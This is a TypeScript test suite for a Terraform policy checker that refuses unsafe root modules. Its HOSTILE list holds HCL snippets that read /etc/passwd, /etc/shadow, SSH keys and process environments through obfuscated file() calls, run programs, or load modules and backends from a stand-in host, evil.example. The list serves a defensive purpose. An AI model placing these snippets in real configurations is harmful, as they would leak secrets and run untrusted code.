import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { checkRoot, declaredVariables, localModules } from '../../../controller/core/infrastructure/root.ts'
import { propertyRuns } from '../../support/property-runs.ts'
import { BACKEND, moduleOf, POLICY, rulesOf } from './hcl.ts'

const GOOD = `
terraform {
  required_version = ">= 1.5"
  required_providers {
    aws = {
      source  = "registry.terraform.io/hashicorp/aws"
      version = ">= 5.100, < 7"
    }
    shop = {
      source = "acme/shop"
    }
  }
  backend "s3" {
    key     = "app.tfstate"
    encrypt = true
  }
}
provider "aws" {
  region = "eu-west-1"
  default_tags {
    tags = { environment = var.environment }
  }
}
variable "environment" { type = string }
variable "images" { type = map(string) }
locals {
  profile  = "a file (that is no call)"
  document = file("\${path.module}/policy.json")
  script   = templatefile("\${path.root}/files/init.tftpl", { name = var.environment })
  plain    = filebase64("files/logo.txt")
  names    = fileset(path.module, "*.json")
}
resource "aws_sqs_queue" "q" {
  name = "q-\${var.environment}"
  lifecycle {
    ignore_changes = [tags]
  }
}
resource "shop_item" "i" {
  provider = shop
}
resource "terraform_data" "d" {}
data "terraform_remote_state" "core" {
  backend = "s3"
  config = {
    bucket = "acme-tfstate"
    key    = "core.tfstate"
  }
}
module "local" { source = "../modules/service" }
module "listed" { source = "terraform-aws-modules/vpc/aws" }
output "q" { value = aws_sqs_queue.q.arn }
moved {
  from = aws_sqs_queue.old
  to   = aws_sqs_queue.q
}
`

const HOSTILE: readonly (readonly [title: string, rule: string, text: string])[] = [
  [
    'a local-exec',
    'Provisioner',
    'resource "terraform_data" "x" {\n  provisioner "local-exec" {\n    command = "id"\n  }\n}',
  ],
  ['a connection', 'Provisioner', 'resource "terraform_data" "x" {\n  connection {\n    host = "h"\n  }\n}'],
  [
    'a provisioner that is made dynamically',
    'Provisioner',
    'resource "terraform_data" "x" {\n  dynamic "provisioner" {\n    for_each = [1]\n    content {}\n  }\n}',
  ],
  ['an external data source', 'ExternalData', 'data "external" "x" {\n  program = ["id"]\n}'],
  [
    'an external data source in a check',
    'ExternalData',
    'check "c" {\n  data "external" "x" {\n    program = ["id"]\n  }\n}',
  ],
  ['a module from the web', 'UnlistedModule', 'module "x" { source = "https://evil.example/x.zip" }'],
  ['a module from git', 'UnlistedModule', 'module "x" { source = "git::ssh://evil.example/x" }'],
  ['a module from a registry that is not listed', 'UnlistedModule', 'module "x" { source = "evil/vpc/aws" }'],
  [
    'a module whose source is computed',
    'UnlistedModule',
    'module "x" { source = "terraform-aws-modules/${var.a}/aws" }',
  ],
  ['a module without a source', 'UnlistedModule', 'module "x" {}'],
  ['a module with an absolute source', 'UnlistedModule', 'module "x" { source = "/etc" }'],
  ['a module outside of the repository', 'ModuleOutside', 'module "x" { source = "../../../x" }'],
  ['terraform.cloud', 'Cloud', 'terraform {\n  cloud {\n    organization = "evil"\n  }\n}'],
  ['a key provider that runs programs', 'UnknownSetting', 'terraform {\n  encryption {}\n}'],
  ['a block of the future', 'UnknownBlock', 'run "x" {}'],
  [
    'another backend',
    'OtherBackend',
    'terraform {\n  backend "http" {\n    address = "https://evil.example"\n  }\n}',
  ],
  [
    'a backend with a profile',
    'ProviderIdentity',
    'terraform {\n  backend "s3" {\n    profile = "x"\n  }\n}',
  ],
  [
    'a state of another backend',
    'OtherBackend',
    'data "terraform_remote_state" "x" {\n  backend = "http"\n  config = {}\n}',
  ],
  [
    'a state by way of another identity',
    'ProviderIdentity',
    'data "terraform_remote_state" "x" {\n  backend = "s3"\n  config = {\n    shared_config_files = ["x"]\n  }\n}',
  ],
  [
    'a state by computed settings',
    'OtherBackend',
    'data "terraform_remote_state" "x" {\n  backend = "s3"\n  config = local.config\n}',
  ],
  ...['shared_config_files', 'shared_credentials_files', 'profile', 'access_key', 'token'].map(
    (name) =>
      [`a provider with ${name}`, 'ProviderIdentity', `provider "aws" {\n  ${name} = "x"\n}`] as const,
  ),
  ...['assume_role', 'assume_role_with_web_identity', 'endpoints'].map(
    (name) => [`a provider with ${name}`, 'ProviderIdentity', `provider "aws" {\n  ${name} {}\n}`] as const,
  ),
  [
    'endpoints that are made dynamically',
    'ProviderIdentity',
    'provider "aws" {\n  dynamic "endpoints" {\n    for_each = [1]\n    content {}\n  }\n}',
  ],
  ['a provider that is implied', 'ProviderNotAllowed', 'resource "null_resource" "x" {}'],
  [
    'a provider that only data needs',
    'ProviderNotAllowed',
    'data "http" "x" {\n  url = "https://evil.example"\n}',
  ],
  ['a provider that only ephemeral values need', 'ProviderNotAllowed', 'ephemeral "vault_secret" "x" {}'],
  [
    'a provider by another name',
    'ProviderNotAllowed',
    'terraform {\n  required_providers {\n    aws = {\n      source = "evil/aws"\n    }\n  }\n}',
  ],
  [
    'a provider of another registry',
    'ProviderNotAllowed',
    'terraform {\n  required_providers {\n    aws = {\n      source = "evil.example/hashicorp/aws"\n    }\n  }\n}',
  ],
  [
    'a provider without a source',
    'ProviderNotAllowed',
    'terraform {\n  required_providers {\n    http = "~> 2.0"\n  }\n}',
  ],
  [
    'a resource that names a provider',
    'ProviderNotAllowed',
    'resource "aws_vpc" "x" {\n  provider = http.other\n}',
  ],
  ...[
    'file("/proc/self/environ")',
    'file( "/proc/self/environ" )',
    'file /* a comment */ ("/proc/self/environ")',
    'core::file("/etc/passwd")',
    'file("${path.module}/../../../../etc/passwd")',
    'file("../../../../etc/passwd")',
    'file("${path.module}${"/.."}/x")',
    'file("${path.cwd}/x")',
    'file(var.path)',
    'file(join("", ["/pr", "oc/self/environ"]))',
    'file("\\u002fproc/self/environ")',
    'filebase64("/proc/1/mem")',
    'fileexists("/root/.ssh/id_rsa")',
    'fileset("/etc", "**")',
    'filesha256("/etc/shadow")',
    'templatefile("/proc/self/environ", {})',
    'templatestring(local.template, {})',
    `file${' '.repeat(5_000)}("/etc/passwd")`,
    `file(${' '.repeat(5_000)}"/etc/passwd")`,
    'jsonencode({ a = [for f in ["/etc/passwd"] : file(f)] })',
  ].map(
    (call) =>
      [call.replaceAll(/ {9,}/g, ' (many blanks) '), 'FileFunction', `locals {\n  x = ${call}\n}`] as const,
  ),
  ['a file in a heredoc', 'FileFunction', 'locals {\n  x = <<-EOT\n    ${file("/etc/passwd")}\n  EOT\n}'],
  ['a file in a text', 'FileFunction', 'locals {\n  x = "a ${file("/etc/passwd")} b"\n}'],
  [
    'a file in a condition',
    'FileFunction',
    'locals {\n  x = "%{ if fileexists("/etc/passwd") }a%{ endif }"\n}',
  ],
  ['a file in a key', 'FileFunction', 'locals {\n  x = { (file("/etc/passwd")) = 1 }\n}'],
]

describe('A root', () => {
  it('that holds nothing of it is run', async () => {
    expect(await rulesOf(GOOD, { 'infra/app/files/init.tftpl': 'hello ${name}' })).toEqual([])
  })

  it.each(HOSTILE)('with %s is refused as %s', async (_, rule, text) => {
    const backend = text.includes('backend "') && !text.includes('data') ? '' : BACKEND
    expect(await rulesOf(`${backend}${text}`)).toEqual([rule])
  })

  it('without a backend is refused, because its state would be lost', async () => {
    expect(await rulesOf('locals {}')).toEqual(['NoBackend'])
  })

  it.each(['${file("/etc/passwd")}', '%{ for l in split("", file("/etc/passwd")) }${l}%{ endfor }'])(
    'whose template holds %s is refused',
    async (template) => {
      const text = `${BACKEND}locals {\n  x = templatefile("\${path.module}/x.tftpl", {})\n}`
      expect(await rulesOf(text, { 'infra/app/x.tftpl': template })).toEqual(['FileFunction'])
    },
  )

  it('whose template loads itself is refused, and looked at only so often', async () => {
    const text = `${BACKEND}locals {\n  x = templatefile("\${path.module}/x.tftpl", {})\n}`
    const template = '${templatefile("x.tftpl", {})}'
    expect(await rulesOf(text, { 'infra/app/x.tftpl': template })).toEqual(['FileFunction'])
  })

  it('is judged with its modules', async () => {
    const modules = [
      await moduleOf('infra/app', BACKEND),
      await moduleOf('infra/modules/x', 'data "external" "x" {\n  program = ["id"]\n}'),
    ]
    const issues = checkRoot({
      modules,
      texts: new Map(),
      policy: POLICY,
    })
    expect(issues).toEqual([
      {
        file: 'infra/modules/x/main.tf',
        rule: 'ExternalData',
        message: 'data.external.x runs a program; expected none',
      },
    ])
  })

  it('calls modules of the repository, each once', async () => {
    const text = ['../modules/b', '../modules/a/', './../modules/b', '../..', '../../../x', 'a/b/c']
      .map((source, index) => `module "m${index}" { source = "${source}" }`)
      .join('\n')
    expect(localModules(await moduleOf('infra/app', text))).toEqual([
      '',
      'infra/modules/a',
      'infra/modules/b',
    ])
  })

  it('declares variables', async () => {
    expect(declaredVariables(await moduleOf('x', 'variable "b" {}\nvariable "a" {}'))).toEqual(['a', 'b'])
  })

  it('is checked whatever the parser would make of it', () => {
    fc.assert(
      fc.property(
        fc.dictionary(
          fc.constantFrom('terraform', 'data', 'resource', 'module', 'provider', 'check'),
          fc.jsonValue(),
        ),
        (blocks) => {
          const modules = [{ folder: 'x', files: [{ path: 'x/main.tf', blocks }] }]
          expect(checkRoot({ modules, texts: new Map(), policy: POLICY }).length).toBeGreaterThan(0)
        },
      ),
      { numRuns: propertyRuns(300) },
    )
  })
})
